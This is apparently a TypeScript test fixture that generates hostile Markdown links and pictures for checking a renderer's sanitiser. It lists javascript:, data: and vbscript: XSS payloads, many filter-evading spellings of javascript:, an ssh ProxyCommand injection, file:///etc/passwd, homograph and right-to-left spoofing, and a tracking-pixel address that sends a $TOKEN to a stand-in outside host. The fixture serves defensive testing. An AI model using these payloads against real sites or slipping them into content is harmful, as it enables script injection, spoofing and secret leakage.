// Links and pictures in Markdown that run something, lead into the machine, or tell somebody elsewhere who reads.
import { CANARY, ELSEWHERE, type HostileText } from "./text.ts";

const SCHEMES: Readonly<Record<string, string>> = {
  javascript: `javascript:${CANARY}`,
  "javascript with a comment": `javascript://%0a${CANARY}`,
  data: `data:text/html,<script>opener.${CANARY}</script>`,
  "data in base64": "data:text/html;base64,PHNjcmlwdD5vcGVuZXIuY2FuYXJ5KCk8L3NjcmlwdD4=",
  "a picture as data": `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${CANARY}"/>`,
  vbscript: `vbscript:${CANARY}`,
  file: "file:///etc/passwd",
  "file of a share": `file://${ELSEWHERE}/share/x`,
  blob: `blob:https://${ELSEWHERE}/0000`,
  "view-source": "view-source:http://127.0.0.1/",
  about: "about:blank",
  chrome: "chrome://settings",
  ssh: `ssh://-oProxyCommand=id@${ELSEWHERE}/`,
  websocket: `ws://${ELSEWHERE}/`,
  ftp: `ftp://${ELSEWHERE}/`,
  "no scheme": `//${ELSEWHERE}/`,
  "backslashes for slashes": `\\\\${ELSEWHERE}\\x`,
  "a path of ours": "/login?t=forged",
  "a path upwards": "../../../api/projects",
  "a query": "?approve=T-1",
  "an anchor": "#root",
};

/** Ways to write `javascript:` that a browser reads as it, or that a check may take for something else. */
const SPELLINGS: Readonly<Record<string, string>> = {
  "in capitals": `JAVASCRIPT:${CANARY}`,
  "in mixed case": `JaVaScRiPt:${CANARY}`,
  "behind a space": ` javascript:${CANARY}`,
  "behind a control character": `\u0001javascript:${CANARY}`,
  "behind a line break": `\njavascript:${CANARY}`,
  "with a line break in it": `java\nscript:${CANARY}`,
  "with a tab as an entity": `java&Tab;script:${CANARY}`,
  "with a line break as an entity": `java&#10;script:${CANARY}`,
  "with a hexadecimal entity": `&#x6a;avascript:${CANARY}`,
  "with a padded entity": `&#0000106avascript:${CANARY}`,
  "with the colon as a number": `javascript&#58;${CANARY}`,
  "with percent signs": `%6aavascript:${CANARY}`,
  "with the colon as a percent sign": `javascript%3A${CANARY}`,
  "with a NUL in it": `java\u0000script:${CANARY}`,
  "with a backslash": `javascript\\:${CANARY}`,
  "behind a byte order mark": `\ufeffjavascript:${CANARY}`,
  "behind the web": `https:javascript:${CANARY}`,
  "with wide letters": `ｊａｖａｓｃｒｉｐｔ:${CANARY}`,
};

const FORMS: Readonly<Record<string, (address: string) => string>> = {
  "as a link": (address) => `[click](${address})`,
  "as a link in brackets": (address) => `[click](<${address}> "title")`,
  "as a reference": (address) => `[click][r] and [r]\n\n[r]: ${address}`,
  "as a reference in brackets": (address) => `[click][r]\n\n[r]: <${address}>`,
  "as an autolink": (address) => `<${address}>`,
  bare: (address) => `see ${address} now`,
  "as a picture": (address) => `![seen](${address})`,
  "as a picture in a link": (address) => `[![seen](${address})](${address})`,
  "as HTML": (address) => `<a href="${address}">click</a>`,
};

/** For what differs from another address in its letters only: two of them each, in turn. */
const FEW_FORMS = ["as a link", "as HTML", "as a reference in brackets", "as an autolink"];
/** These run something in one browser or another. */
const RUNS = ["javascript", "data", "vbscript"];

/** They lead to the web, which is allowed; nothing of it may be fetched, and nothing may pass for another address. */
const WEB: Readonly<Record<string, string>> = {
  "a picture of the web": `![seen](https://${ELSEWHERE}/pixel.png)`,
  "a picture over http": `![seen](http://${ELSEWHERE}/pixel.png "title")`,
  "a picture by reference": `![seen][p]\n\n[p]: https://${ELSEWHERE}/pixel.png`,
  "a collapsed picture by reference": `![p][]\n\n[p]: https://${ELSEWHERE}/pixel.png`,
  "a picture in a heading": `# ![seen](https://${ELSEWHERE}/pixel.png)`,
  "a picture in a footnote": `x[^1]\n\n[^1]: ![seen](https://${ELSEWHERE}/pixel.png)`,
  "a picture with a tracking address": `![](https://${ELSEWHERE}/?secret=$TOKEN&x=${"a".repeat(2_000)})`,
  "a picture without a name": `![](//${ELSEWHERE}/pixel.png)`,
  "a link of GFM": `www.${ELSEWHERE}/x https://${ELSEWHERE}/y http://${ELSEWHERE}:80`,
  "mail of GFM": `me@${ELSEWHERE} mailto:me@${ELSEWHERE} xmpp:me@${ELSEWHERE}/x`,
  "a link that says another address": `[https://github.com/login](https://${ELSEWHERE}/login)`,
  "letters that look alike": "https://gіthub.com/ https://xn--80ak6aa92e.com/",
  "an address turned around": `https://${ELSEWHERE}/\u202egnp.exe`,
  "an address with an entity": `[x](https://${ELSEWHERE}/&quot;onmouseover=&quot;${CANARY})`,
  "an address with a quote": `[x](https://${ELSEWHERE}/"onmouseover="${CANARY})`,
  "a name with markup": `![<img src=x onerror=${CANARY}>](https://${ELSEWHERE}/p.png)`,
  "a very long address": `https://${ELSEWHERE}/${"x/".repeat(8_000)}`,
  "a link over lines": `[a\nb\nc](https://${ELSEWHERE}/\n"title\nover\nlines")`,
  "a link in a link": `[a [b](https://${ELSEWHERE}/1) c](https://${ELSEWHERE}/2)`,
  "a link in code": `\`[x](javascript:${CANARY})\` \`\`\`\n[x](javascript:${CANARY})\n\`\`\``,
  "a footnote that leads to another": `a[^x]\n\n[^x]: b[^y]\n\n[^y]: c[^x]`,
  "a footnote named as a part of the page": `a[^root]\n\n[^root]: <b id=root>x</b>`,
};

export const LINKS: readonly HostileText[] = [
  ...Object.entries(SCHEMES).flatMap(([what, address], index) =>
    linksTo(what, address, RUNS.includes(what) ? Object.keys(FORMS) : twoOf(index).slice(0, 1 + (index % 2))),
  ),
  ...Object.entries(SPELLINGS).flatMap(([what, address], index) =>
    linksTo(`javascript ${what}`, address, twoOf(index).slice(0, 1 + (index % 2))),
  ),
  ...Object.entries(WEB).map(([name, text]) => ({ name, text })),
];

function twoOf(index: number): readonly string[] {
  return FEW_FORMS.filter((_, at) => at % 2 === index % 2);
}

function linksTo(what: string, address: string, forms: readonly string[]): readonly HostileText[] {
  return forms.map((form) => ({ name: `${what} ${form}`, text: FORMS[form]?.(address) ?? address }));
}
